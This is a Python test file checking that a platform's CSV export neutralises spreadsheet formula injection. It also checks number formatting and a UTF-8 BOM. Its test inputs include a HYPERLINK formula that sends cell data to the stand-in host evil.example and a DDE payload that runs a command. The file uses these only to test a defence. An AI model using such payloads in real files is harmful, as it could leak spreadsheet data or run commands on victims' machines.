"""CSV exports open in a spreadsheet as data: no cell we did not compute runs as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from microcred_market.platform.spreadsheet import FORMULA_STARTS, csv_bytes, csv_text, neutralise

pytestmark = pytest.mark.portal


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_be_a_formula_is_text(hostile: str) -> None:
    assert neutralise(hostile) == "'" + hostile
    (row,) = list(csv.reader(io.StringIO(csv_text(["x"], [[hostile]]))))[1:]
    assert not row[0].startswith(FORMULA_STARTS)


@given(st.text(max_size=40))
def test_no_text_ever_leaves_starting_as_a_formula_and_nothing_else_changes(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)


def test_numbers_we_computed_stay_numbers() -> None:
    assert neutralise(-1250) == "-1250"
    assert neutralise(Decimal("-12.50")) == "-12.50"
    assert neutralise(None) == ""


def test_the_file_is_utf8_with_a_bom_for_polish_letters() -> None:
    data = csv_bytes(["Miesiąc"], [["Łódź"]])
    assert data.startswith("\ufeff".encode())
    assert "Łódź".encode() in data
